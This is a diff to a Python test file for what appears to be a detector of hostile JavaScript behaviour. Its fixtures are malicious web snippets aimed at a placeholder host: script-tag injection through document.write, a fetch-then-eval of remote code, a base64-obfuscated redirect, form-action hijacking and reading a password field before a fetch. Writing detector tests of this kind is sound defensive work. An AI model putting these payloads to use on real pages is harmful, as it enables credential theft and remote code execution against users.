@@ -39,6 +39,8 @@ DONE = {
     f"document.forms[0].action='{AT}'": ("form", "opening"),
     f"import {{a}} from '{AT}a.js'": ("load", "opening"),
     f"$.ajax({{url:'{AT}',dataType:'script'}})": ("load", "opening"),
+    f"var w=document.write.bind(document);w('<script src={AT}></script>')": ("load", "opening"),
+    f"var w=document.write;w.call(document,'<script src={AT}></script>')": ("load", "opening"),
     f"with(document)with(createElement('script'))src='{AT}'": ("load", "opening"),
     f"eval(atob('{__import__('base64').b64encode(f'location.href={AT!r};var documents=1;'.encode()).decode()}'))": (
         "move",
@@ -95,6 +97,10 @@ def test_what_stands_near_is_told():
     code = f"fetch('{AT}').then(r=>r.text()).then(t=>eval(t))"
     assert unpack(code).acts[0].near == {"run"}
     assert unpack(f"import('{AT}')").acts[0].near == {"module"}
+    assert unpack(f"caches.open('v');fetch('{AT}')").acts[0].near == {"cached"}
+    assert unpack(f"if(/iPhone/.test(a))fetch('{AT}')").acts[0].near == {"phones"}
+    assert unpack(f"var v=f.pwd.value;fetch('{AT}')").acts[0].near == {"fields", "harvest"}
+    assert unpack(f"new Worker(u(new Blob([`importScripts('{AT}')`])))").acts[0].near == {"quoted"}
     assert unpack(f"with(d)body.innerHTML='<a href={AT}>x</a>';a.style.left='-999px'").acts[0].near == {
         "scoped",
         "aside",
